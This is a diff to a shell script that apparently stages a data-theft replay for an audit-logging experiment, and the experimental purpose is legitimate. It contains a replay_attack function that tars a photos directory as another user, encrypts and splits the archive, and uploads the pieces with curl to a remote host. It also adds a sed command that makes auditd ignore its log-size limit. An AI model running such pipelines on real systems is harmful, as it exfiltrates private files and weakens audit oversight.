@@ -8,7 +8,8 @@
 
 rp=/srv/replay
 rp_records=2000
-rp_budget=400 # KiB
+[ ! -s "$here/replay-records" ] || rp_records=$(<"$here/replay-records")
+rp_budget=$((rp_records / 5)) # KiB
 rp_web=8081
 
 replay_wanted()
@@ -110,6 +111,8 @@ replay_listen()
 replay_audit()
 {
 	mkdir -p /var/log/audit
+	sed -i 's/^max_log_file_action.*/max_log_file_action = ignore/' \
+		/etc/audit/auditd.conf
 	auditd -s nochange && auditctl -e 1 -b 65536 >/dev/null &&
 		auditctl -D >/dev/null &&
 		auditctl -a always,exit -F arch=b64 -S openat \
@@ -119,7 +122,8 @@ replay_audit()
 # The files that the kernel's audit saw opened, by their names.
 replay_audited()
 {
-	auditctl -D -e 0 >/dev/null
+	auditctl -D >/dev/null
+	auditctl -e 0 >/dev/null
 	kill "$(pidof auditd)"
 	sleep 1
 	grep -ho 'name="[^"]*\.jpg"' /var/log/audit/audit.log |
@@ -130,7 +134,7 @@ replay_attack()
 {
 	replay_do "cd /tmp; sudo -n -u rpapp tar -cPf - $rp/photos |
 		openssl enc -aes-256-ctr -pass pass:x -pbkdf2 -iter 1 |
-		split -b 150k - piece.
+		split -b $((rp_records * 75)) - piece.
 		for p in piece.*; do
 			curl -sS -m 3 -T \$p http://$there:9080/up
 		done"
